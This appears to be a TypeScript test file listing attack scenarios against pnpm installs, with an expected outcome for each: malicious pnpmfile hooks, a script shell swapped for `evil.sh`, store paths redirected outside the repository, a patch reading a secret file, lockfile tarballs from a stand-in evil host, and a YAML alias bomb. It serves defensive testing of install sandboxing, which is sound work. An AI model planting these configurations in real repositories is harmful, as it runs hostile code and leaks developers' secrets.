// Hooks, settings and sources of pnpm projects.

import { type Attack, evilCode, evilScript, type Files, json, manifest, touch } from './attack.ts'
import { plantedPackage } from './planted.ts'

const lock = (more = ''): string =>
  `lockfileVersion: '9.0'\n\nsettings:\n  autoInstallPeers: true\n  excludeLinksFromLockfile: false\n${more}\nimporters:\n\n  .: {}\n`

const project = (more: object = {}): Files => ({
  'package.json': manifest(more),
  'pnpm-lock.yaml': lock(),
})

const plain = ['pnpm', 'install', '--no-frozen-lockfile']

const resolution = (of: string): Files => ({
  'package.json': manifest({ dependencies: { a: '1.0.0' } }),
  'pnpm-lock.yaml': `lockfileVersion: '9.0'\nimporters:\n  .:\n    dependencies:\n      a:\n        specifier: 1.0.0\n        version: 1.0.0\npackages:\n  a@1.0.0:\n    resolution: ${of}\nsnapshots:\n  a@1.0.0: {}\n`,
})

export const pnpmAttacks: readonly Attack[] = [
  {
    name: 'hooks in .pnpmfile.cjs',
    manager: 'pnpm',
    files: (scene) => ({
      ...project(),
      '.pnpmfile.cjs': `${evilCode(scene)}\nmodule.exports = { hooks: { readPackage: (one) => one } }\n`,
    }),
    ends: 'refused',
    control: plain,
  },
  {
    name: 'another pnpmfile that .npmrc names',
    manager: 'pnpm',
    files: (scene) => ({
      ...project(),
      'evil.cjs': `${evilCode(scene)}\nmodule.exports = { hooks: {} }\n`,
      '.npmrc': 'pnpmfile=evil.cjs\nglobal-pnpmfile=evil.cjs\n',
    }),
    ends: 'installed',
    control: plain,
  },
  {
    name: 'scripts of the project, a shell for them, and packages that may run theirs',
    manager: 'pnpm',
    files: (scene) => ({
      ...project({
        scripts: { preinstall: touch(scene), postinstall: touch(scene), prepare: touch(scene) },
        pnpm: { onlyBuiltDependencies: ['a'], neverBuiltDependencies: [] },
      }),
      'evil.sh': { executable: evilScript(scene) },
      '.npmrc': 'script-shell=./evil.sh\nignore-scripts=false\nenable-pre-post-scripts=true\n',
    }),
    ends: 'either',
  },
  {
    name: 'a store, a modules folder and a virtual store elsewhere',
    manager: 'pnpm',
    files: (scene) => ({
      ...project(),
      '.npmrc': `store-dir=${scene.neighbor}/store\nmodules-dir=../../neighbor/node_modules\nvirtual-store-dir=${scene.neighbor}/virtual\nstate-dir=${scene.neighbor}/state\ncache-dir=${scene.neighbor}/cache\n`,
    }),
    ends: 'installed',
    control: plain,
  },
  {
    name: 'settings in pnpm-workspace.yaml that name packages and paths outside',
    manager: 'pnpm',
    files: (scene) => ({
      ...project(),
      'pnpm-workspace.yaml': `packages:\n  - '.'\n  - '../../neighbor'\nstoreDir: ${scene.neighbor}/store\nmodulesDir: ../../neighbor/node_modules\nscriptShell: ./evil.sh\nonlyBuiltDependencies: ['*']\ndangerouslyAllowAllBuilds: true\n`,
      'evil.sh': { executable: evilScript(scene) },
    }),
    ends: 'either',
  },
  {
    name: 'a configuration dependency with hooks',
    manager: 'pnpm',
    files: () => ({
      ...project({ pnpm: { configDependencies: { planted: '1.0.0+sha512-x' } } }),
      'pnpm-workspace.yaml': "packages: ['.']\nconfigDependencies:\n  planted: 1.0.0+sha512-x\n",
    }),
    answers: plantedPackage,
    ends: 'either',
  },
  {
    name: 'a patch from outside of the repository',
    manager: 'pnpm',
    files: (scene) => ({
      'package.json': manifest({
        pnpm: { patchedDependencies: { 'a@1.0.0': `${scene.neighbor}/secret.txt` } },
      }),
      'pnpm-lock.yaml': lock(
        `\npatchedDependencies:\n  a@1.0.0:\n    hash: abc\n    path: ${scene.neighbor}/secret.txt\n`,
      ),
    }),
    ends: 'refused',
  },
  {
    name: 'a folder outside as a workspace in the lockfile',
    manager: 'pnpm',
    files: () => ({
      'package.json': manifest(),
      'pnpm-lock.yaml':
        "lockfileVersion: '9.0'\nimporters:\n  .: {}\n  ../../neighbor:\n    dependencies: {}\n",
      'pnpm-workspace.yaml': "packages: ['.', '../../neighbor']\n",
    }),
    ends: 'refused',
  },
  {
    name: 'a package in a folder outside',
    manager: 'pnpm',
    files: (scene) => resolution(`{type: directory, directory: ${scene.neighbor}}`),
    ends: 'refused',
  },
  {
    name: 'an archive at another URL',
    manager: 'pnpm',
    files: (scene) => resolution(`{tarball: '${scene.evil}a.tgz'}`),
    ends: 'refused',
    control: ['pnpm', 'install', '--frozen-lockfile'],
  },
  {
    name: 'an archive hidden by a second document and by a duplicate key',
    manager: 'pnpm',
    files: (scene) => ({
      'package.json': manifest(),
      'pnpm-lock.yaml': `lockfileVersion: '9.0'\nimporters:\n  .: {}\npackages:\n  a@1.0.0:\n    resolution: {tarball: '${scene.evil}a.tgz'}\npackages: {}\n---\nlockfileVersion: '9.0'\nimporters: {}\n`,
    }),
    ends: 'refused',
  },
  {
    name: 'aliases that grow endlessly in the lockfile',
    manager: 'pnpm',
    files: () => ({
      'package.json': manifest(),
      'pnpm-lock.yaml': `lockfileVersion: '9.0'\na0: &a0 [x, x, x, x, x, x, x, x, x, x]\n${Array.from({ length: 12 }, (_, at) => `a${at + 1}: &a${at + 1} [${Array(10).fill(`*a${at}`).join(', ')}]`).join('\n')}\n`,
    }),
    ends: 'refused',
  },
  {
    name: 'packageManager with a URL',
    manager: 'pnpm',
    files: (scene) => ({
      ...project({ packageManager: `pnpm@${scene.evil}pnpm.tgz#sha1.0000` }),
      'nested/package.json': json({ name: 'n', packageManager: `pnpm@9.0.0+${scene.evil}` }),
    }),
    ends: 'installed',
  },
]
